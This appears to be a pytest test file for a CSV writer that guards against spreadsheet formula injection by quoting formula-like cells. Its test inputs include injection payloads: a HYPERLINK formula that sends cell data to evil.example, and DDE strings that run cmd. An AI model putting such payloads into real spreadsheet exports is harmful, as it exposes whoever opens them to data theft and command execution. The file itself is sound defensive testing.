"""The portal's one CSV writer: formula-like text gains a leading quote, numbers stay numbers, a
line break inside a cell is always quoted, and every other file is what csv.writer writes."""

import csv
import io
from decimal import Decimal

import pytest

from programs.spreadsheets import CSVWriter, inert


def written(rows, **fmtparams) -> str:
    out = io.StringIO()
    CSVWriter(out, **fmtparams).writerows(rows)
    return out.getvalue()


def read(text) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?x="&E2,"Details")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "-12.50 USD",
        "--1",
        "-1-1",
        "-١٢",  # Arabic-Indic digits: not a number a spreadsheet reads
        "-inf",
        "-NaN",
    ],
)
def test_text_that_starts_a_formula_gains_a_quote(text):
    assert inert(text) == "'" + text
    assert read(written([[text, "x"]])) == [["'" + text, "x"]]


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "-3", "-.5", "-1e-05", "+1E+3", -5, Decimal("-12.50"), -0.25]
)
def test_numbers_stay_numbers(value):
    assert inert(value) == value
    assert read(written([[value]])) == [[str(value)]]


@pytest.mark.parametrize("value", ["Organization 0", "a=b", "a\t-b", " =1", "", "'=1", 7, None])
def test_everything_else_is_left_alone(value):
    assert inert(value) is value


def test_a_safe_file_is_byte_for_byte_what_csv_writes():
    rows = [
        ["reference", "amount", "note"],
        ["TEST-1", "1350.00", 'A "quoted", comma'],
        ["TEST-2", Decimal("7.00"), None],
        ["TEST-3", 12, "two\nlines"],
    ]
    for fmtparams in [{}, {"lineterminator": "\n"}]:
        expected = io.StringIO()
        csv.writer(expected, **fmtparams).writerows(rows)
        assert written(rows, **fmtparams) == expected.getvalue()
    assert written(rows).endswith("\r\n")  # csv's own line ending unless told otherwise


def test_a_bare_carriage_return_is_quoted_where_the_line_ending_would_not_quote_it():
    """With "\\n" line endings csv leaves a lone "\\r" unquoted, and a spreadsheet starts a row
    there: the text after it would open as a formula."""
    text = written([["Org\r=HYPERLINK(1)", 5], ["next", 6]], lineterminator="\n")
    assert text == '"Org\r=HYPERLINK(1)","5"\nnext,6\n'
    assert read(text) == [["Org\r=HYPERLINK(1)", "5"], ["next", "6"]]
    # With csv's own "\r\n" the field is quoted already, and nothing else changes.
    assert written([["Org\r=1", 5]]) == '"Org\r=1",5\r\n'
